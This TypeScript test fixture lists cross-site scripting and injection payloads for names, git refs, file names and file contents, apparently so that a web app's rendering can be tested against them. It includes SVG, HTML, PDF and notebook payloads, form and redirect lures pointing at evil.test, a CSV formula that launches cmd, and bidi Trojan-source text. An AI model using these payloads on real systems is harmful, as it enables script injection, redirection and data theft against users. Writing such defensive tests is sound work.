// Ways by which people have made a page run script, for all that is not Markdown: names, titles,
// contents, messages. Every one sets `window.hit`, calls alert, or asks another server for
// something. Those of Markdown are in test/web/markdown/attacks.ts.

/** What can stand in a line of text: a title, a name, a description. */
export const lines: readonly string[] = [
  '<script>window.hit=1</script>',
  '<img src=x onerror=window.hit=1>',
  '"><img src=x onerror=window.hit=1>',
  "'><svg onload=window.hit=1>",
  '" autofocus onfocus="window.hit=1',
  "' onmouseover='window.hit=1",
  '</title><script>window.hit=1</script>',
  '</textarea><script>window.hit=1</script>',
  '</script><script>window.hit=1</script>',
  '<!--<script>window.hit=1</script>-->',
  '--><img src=x onerror=window.hit=1><!--',
  '&lt;img src=x onerror=window.hit=1&gt;',
  '&#60;img src=x onerror=window.hit=1&#62;',
  '\\u003cimg src=x onerror=window.hit=1\\u003e',
  '%3Cimg%20src=x%20onerror=window.hit=1%3E',
  '{{constructor.constructor("window.hit=1")()}}',
  '${window.hit=1}',
  '#{window.hit=1}',
  '<%= window.hit=1 %>',
  'javascript:window.hit=1',
  'java&#x09;script:window.hit=1',
  'data:text/html,<script>parent.hit=1</script>',
  '`<img src=x onerror=window.hit=1>`',
  '**<b onclick=window.hit=1>x</b>**',
  '[x](javascript:window.hit=1)',
  '@"><img src=x onerror=window.hit=1>',
  '#1"><img src=x onerror=window.hit=1>',
  '<a href=javascript:window.hit=1>x</a>',
  '<iframe srcdoc="<script>parent.hit=1</script>">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href=https://evil.test/>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<form action=https://evil.test/><input name=csrf>',
  '<form id=content><input name=parentNode>',
  '<style>*{background:url(https://evil.test/)}</style>',
  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  '<math><mi xlink:href="data:x,<script>window.hit=1</script>">x',
  '<details open ontoggle=window.hit=1>x</details>',
  '<x contenteditable onblur=window.hit=1>x</x>',
  '<template><script>window.hit=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '<ſcript>window.hit=1</ſcript>',
  '＜script＞window.hit=1＜/script＞',
  'a\u202e>tpircs/<1=tih.wodniw>tpircs<',
  'раyment \u2066// \u2069"><img src=x onerror=window.hit=1>',
]

/**
 * What a branch, tag or file may be called: git allows no space, colon, tilde, caret, question
 * mark, star or bracket in refs.
 */
export const refs: readonly string[] = [
  '<script>window.hit=1</script>',
  '"><svg/onload=window.hit=1>',
  "'onmouseover='window.hit=1",
  '"autofocus/onfocus="window.hit=1',
  '&lt;script&gt;window.hit=1',
  '${window.hit=1}',
  '{{window.hit=1}}',
  'javascript&colon;window.hit=1',
  '%3Cscript%3Ewindow.hit=1',
  '#onerror=window.hit=1',
  'a\u202ebc',
  '<!--x',
  '`window.hit=1`',
  '</title><script>window.hit=1</script>',
]

export const fileNames: readonly string[] = [
  ...refs.filter((name) => !name.includes('/')),
  '<img src=x onerror=window.hit=1>.md',
  '" onmouseover="window.hit=1.ts',
  'javascript:window.hit=1',
  'x?y=<script>window.hit=1<',
  'x\u202egpj.js',
  'a\tb',
  "'><b onclick=window.hit=1>.svg",
  '-->.html',
  '{{7*7}}.txt',
  'lookalike-ехе.md',
  '..%2f..%2fx',
  'CON<a href=javascript:window.hit=1>',
]

const LIVE =
  '<script>top.hit=1</script><img src=x onerror="top.hit=1"><svg onload="top.hit=1"><a href="javascript:top.hit=1">x</a></svg>'
const cell = (output: unknown): unknown => ({
  cell_type: 'code',
  metadata: {},
  execution_count: 1,
  source: [LIVE],
  outputs: [output],
})

/** Files whose content is the attempt, by name. */
export const files: Readonly<Record<string, string>> = {
  'live.svg': `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" onload="top.hit=1"><script>top.hit=1</script><script href="https://evil.test/x.js"/><image xlink:href="https://evil.test/x.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.hit=1"/></foreignObject><a xlink:href="javascript:top.hit=1"><text>x</text></a><animate attributeName="href" values="javascript:top.hit=1" onbegin="top.hit=1"/></svg>\n`,
  'entity.svg':
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script xmlns=\'http://www.w3.org/2000/svg\'>top.hit=1</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>\n',
  'live.html': `<!doctype html><title>x</title><meta http-equiv=refresh content="0;url=https://evil.test/">${LIVE}\n`,
  'live.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>top.hit=1</script></html>\n`,
  'live.xml':
    '<?xml version="1.0"?><?xml-stylesheet href="javascript:top.hit=1" type="text/xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">top.hit=1</x:script>\n',
  'live.pdf':
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
  'live.js': `// ${LIVE}\nconst a = "</script><script>window.hit=1</script>"\n/* --> ${LIVE} */\n`,
  'live.css': `</style>${LIVE}<style>@import url(https://evil.test/x.css);\n`,
  'live.json': `{"</script><script>window.hit=1</script>": ${JSON.stringify(LIVE)}}\n`,
  'live.md': `# ${LIVE}\n\n[x]: javascript:window.hit=1\n\n[x] ![x](javascript:window.hit=1) <${'javascript:window.hit=1'}>\n\n\`\`\`html\n${LIVE}\n\`\`\`\n\n| ${LIVE} |\n| --- |\n| [x](data:text/html,${LIVE}) |\n`,
  'live.csv': `"${LIVE.replaceAll('"', '""')}",=cmd|' /C calc'!A0\n"<b onmouseover=window.hit=1>",javascript:window.hit=1\n`,
  'live.ipynb': JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      language_info: { name: '"><img src=x onerror=top.hit=1>' },
      kernelspec: { display_name: LIVE, name: LIVE },
    },
    cells: [
      {
        cell_type: 'markdown',
        metadata: {},
        source: [LIVE, '\n[x](javascript:window.hit=1)\n![x](attachment:x.svg)'],
        attachments: { 'x.svg': { 'image/svg+xml': [LIVE] } },
      },
      { cell_type: 'raw', metadata: {}, source: [LIVE] },
      cell({
        output_type: 'display_data',
        metadata: {},
        data: { 'text/html': [LIVE], 'text/plain': [LIVE] },
      }),
      cell({
        output_type: 'display_data',
        metadata: {},
        data: {
          'image/svg+xml': [
            `<svg xmlns="http://www.w3.org/2000/svg" onload="top.hit=1"><script>top.hit=1</script></svg>`,
          ],
        },
      }),
      cell({
        output_type: 'display_data',
        metadata: {},
        data: { 'image/png': 'x" onerror="top.hit=1' },
      }),
      cell({
        output_type: 'display_data',
        metadata: {},
        data: { 'application/javascript': ['top.hit=1'] },
      }),
      cell({
        output_type: 'display_data',
        metadata: {},
        data: { 'text/markdown': [LIVE], 'text/latex': [`$${LIVE}$`] },
      }),
      cell({
        output_type: 'stream',
        name: LIVE,
        text: [
          `\u001b[31m${LIVE}\u001b[0m\u001b]8;;javascript:top.hit=1\u001b\\x\u001b]8;;\u001b\\`,
        ],
      }),
      cell({ output_type: 'error', ename: LIVE, evalue: LIVE, traceback: [`\u001b[0;31m${LIVE}`] }),
    ],
  }),
  CODEOWNERS: `<script>window.hit=1</script> @ada\n*.js" @<img/src=x/onerror=window.hit=1>\n[x](javascript:window.hit=1) nobody"><b@evil.test\n`,
  '.gitmodules':
    '[submodule "x"]\n\tpath = vendor/x\n\turl = javascript:window.hit=1\n[submodule "y\\"><img src=x onerror=window.hit=1>"]\n\tpath = vendor/y\n\turl = "https://evil.test/\\"><script>window.hit=1</script>"\n',
  'bidi.ts':
    'const role = "user"\nif (role !== "user\u202e \u2066// only admins\u2069 \u2066") {\n  admit()\n}\n',
  'README.md': `<h1 id="content" name="body" class="site-header">x</h1>\n\n${LIVE}\n\n<form name="forms" action="https://evil.test/"><input name="csrf"><button>Sign in</button></form>\n\n<a id="user-content-x" name="getElementById">x</a>\n\n![x](live.svg) [raw](live.html) https://evil.test/"onmouseover="window.hit=1\n`,
}

/** Lines that a command prints. */
export const log = `\u001b[31m${LIVE}\u001b[0m \u001b]8;;javascript:top.hit=1\u001b\\link\u001b]8;;\u001b\\ \u001b]0;${LIVE}\u0007 \u001b[2J\u0008 </pre>${LIVE}`
